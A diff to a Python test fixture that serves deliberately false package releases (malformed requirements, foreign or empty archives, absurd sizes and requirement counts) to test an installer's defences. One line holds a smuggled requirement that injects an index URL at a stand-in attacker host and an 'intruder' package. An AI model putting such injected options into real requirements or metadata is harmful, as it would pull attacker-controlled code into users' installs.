@@ -9,6 +9,7 @@ import json
 from dataclasses import dataclass, field
 
 from fault_server import JSON, Answer, make_wheel
+from own_index import make_tar
 
 NAME = "victim"
 HONEST, LYING = "1.0", "2.0"
@@ -33,6 +34,8 @@ class Lie:
     also: tuple = ()
     """Further entries."""
     version: str = LYING
+    more: dict = field(default_factory=dict)
+    """Further keys of the entry."""
 
     @property
     def late(self):
@@ -56,12 +59,19 @@ def lying_metadata(text, sentence):
     return Lie(f"the metadata of {NAME}-{LYING}-{TAG} are not its own: {sentence}", metadata=text.encode())
 
 
-def bad_requirement(text, why):
+def bad_requirement(text, why, shown=None):
     wheel = make_wheel(NAME, LYING, [text])
-    sentence = f'{NAME}-{LYING}-{TAG} asks for "{text}", which is no requirement: {why}'
+    sentence = f'{NAME}-{LYING}-{TAG} asks for "{shown or text}", which is no requirement: {why}'
     return Lie(sentence, wheel=wheel, hashes={"sha256": hashlib.sha256(wheel).hexdigest()})
 
 
+def lying_archive(sentence, name, pkg_info):
+    """A release without a wheel, whose source archive says ``pkg_info``."""
+    body = make_tar({f"{NAME}-{LYING}/PKG-INFO": pkg_info})
+    return Lie(sentence, name, hashes={"sha256": hashlib.sha256(body).hexdigest()}, wheel=body)
+
+
+MANY = make_wheel(NAME, LYING, [f'a{number}; python_version < "3"' for number in range(10_001)])
 SMUGGLED = f"{RIGHT}\n--index-url http://evil.invalid/simple\n--find-links /x\nintruder==1.0"
 
 KINDS = {
@@ -110,6 +120,25 @@ KINDS = {
     "marker that cannot be evaluated": bad_requirement(
         'six; os_name ~= "1.0"', "its marker compares what has no order"
     ),
+    "size of no file": Lie(f"{WRONG_LISTING}{NAME}-{LYING}-{TAG} has {2**70} bytes", more={"size": 2**70}),
+    "more requirements than anybody has": Lie(
+        f"{NAME}-{LYING}-{TAG} asks for more than 10000 requirements, or 500000 letters of them",
+        wheel=MANY,
+        hashes={"sha256": hashlib.sha256(MANY).hexdigest()},
+    ),
+    "requirement without end": bad_requirement(
+        f"six {'x' * 400}",
+        "Expected semicolon (after name with no version specifier) or end",
+        f"six {'x' * 186} …",
+    ),
+    "archive of another project": lying_archive(
+        f"the metadata of {NAME}-{LYING}.tar.gz are not its own: they are of other 2.0",
+        f"{NAME}-{LYING}.tar.gz",
+        "Metadata-Version: 2.2\nName: other\nVersion: 2.0\n",
+    ),
+    "archive of nothing": lying_archive(
+        f"{NAME}-{LYING}.zip is no source archive that can be read: File is not a zip file", f"{NAME}-{LYING}.zip", ""
+    ),
 }
 
 
@@ -120,6 +149,7 @@ def serve(server, lie):
     server.add_wheel(name, honest)
     server.add_wheel("lying.whl", lie.wheel)
     entry = {"filename": lie.filename, "url": lie.url or f"{server.url}/files/lying.whl", "hashes": lie.hashes}
+    entry |= lie.more
     if lie.metadata is not None:
         server.answers["/files/lying.whl.metadata"] = Answer(lie.metadata)
         entry["core-metadata"] = {"sha256": hashlib.sha256(lie.metadata).hexdigest()}
